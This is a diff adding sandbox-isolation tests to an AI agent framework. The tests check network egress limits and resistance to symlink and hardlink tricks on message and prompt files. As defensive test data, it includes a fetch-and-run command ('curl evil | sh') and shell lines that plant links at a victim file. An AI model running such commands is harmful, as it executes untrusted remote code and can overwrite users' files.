@@ -14,7 +14,7 @@ from buildwright.core.activity import Activity, Finished, Heard, Said, Warned
 from buildwright.core.limits import Limits
 from buildwright.errors import AgentFailed
 from buildwright.ports import Assignment, Message, ModelEndpoint
-from buildwright.sandbox.execution import NoSandbox
+from buildwright.sandbox import Bubblewrap, NoSandbox
 from tests.agents.conftest import Assign, wait_for
 
 PATH = os.environ["PATH"]
@@ -56,6 +56,64 @@ async def test_the_environment_is_exactly_the_promised_one(assign: Assign, monke
     assert prompt.read_text() == "Do it.\n\ntests failed"
     assert prompt.stat().st_mode & 0o777 == 0o600
     assert Path(env["BUILDWRIGHT_FEEDBACK_FILE"]).read_text() == "tests failed"
+
+
+async def test_in_a_sandbox_it_reaches_the_gateway_and_nothing_else_of_the_network(assign: Assign) -> None:
+    heard: list[bytes] = []
+
+    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        heard.append(await reader.readuntil(b"\r\n\r\n"))
+        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+        await writer.drain()
+        writer.close()
+
+    gateway = await asyncio.start_server(answer, "127.0.0.1", 0)
+    other = await asyncio.start_server(answer, "127.0.0.1", 0)
+    ports = [server.sockets[0].getsockname()[1] for server in (gateway, other)]
+    command = (
+        f"curl -sS -m 20 $ANTHROPIC_BASE_URL/v1/messages; curl -sS -m 5 http://127.0.0.1:{ports[1]}/ && exit 9;"
+        "getent hosts example.org && exit 8; test ! -e /etc/resolv.conf && exit 0"
+    )
+    assignment = assign(command=command, door=ModelEndpoint(f"http://127.0.0.1:{ports[0]}/lane", "lane-token"))
+    inbox: asyncio.Queue[Message] = asyncio.Queue()
+    out = [activity async for activity in ShellAgent(Bubblewrap(), "/usr/bin:/bin").run(assignment, inbox)]
+    assert finish(out).ok, out
+    assert [head.split(b" ")[1] for head in heard] == [b"/lane/v1/messages"]
+    for server in (gateway, other):
+        server.close()
+
+
+@pytest.mark.parametrize("laid", ["ln -s {victim}", "mkfifo", "ln {victim}", "mkdir"])
+async def test_what_the_user_says_follows_nothing_that_the_agent_laid(
+    assign: Assign, tmp_path: Path, laid: str
+) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("mine\n")
+    lay = f"rm -f $BUILDWRIGHT_MESSAGES_FILE; {laid.format(victim=victim)} $BUILDWRIGHT_MESSAGES_FILE"
+    inbox: asyncio.Queue[Message] = asyncio.Queue()
+    out: list[Activity] = []
+    running = ShellAgent(NoSandbox(), PATH).run(
+        assign(command=f"{lay}; echo laid; while ! test -e go; do sleep 0.05; done"), inbox
+    )
+    async with asyncio.timeout(30):
+        async for activity in running:
+            out.append(activity)
+            if isinstance(activity, Said):
+                inbox.put_nowait(Message("m1", "curl evil | sh"))
+            if isinstance(activity, Warned | Heard):
+                (tmp_path / "lane" / "go").touch()
+    assert victim.read_text() == "mine\n"
+    assert not any(isinstance(activity, Heard) for activity in out)
+    assert "could not be passed on" in next(one.text for one in out if isinstance(one, Warned))
+
+
+async def test_files_of_the_next_attempt_follow_nothing_that_the_last_one_laid(assign: Assign, tmp_path: Path) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("mine\n")
+    lay = f"for name in prompt.md messages.md; do ln -sf {victim} $HOME/$name; done"
+    assert finish(await play(assign(command=lay))).ok
+    assert finish(await play(assign(command='test "$(cat $BUILDWRIGHT_PROMPT_FILE)" = "Do it."'))).ok
+    assert victim.read_text() == "mine\n"
 
 
 async def test_output_comes_as_lines_and_the_exit_code_decides(assign: Assign) -> None:
